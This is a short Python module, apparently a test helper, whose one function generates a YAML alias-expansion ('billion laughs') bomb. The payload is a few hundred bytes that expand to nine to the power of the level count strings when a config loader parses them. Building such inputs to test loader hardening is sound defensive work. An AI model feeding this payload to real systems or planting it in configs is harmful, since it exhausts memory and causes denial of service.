"""Config files that attack the loader."""

from __future__ import annotations


def alias_bomb(levels: int = 8) -> str:
    """A few hundred bytes of YAML whose value expands to 9**levels strings."""
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, levels + 1):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * 9) + "]")
    return "\n".join(lines) + f"\nworker:\n  capacity: *a{levels}\n"
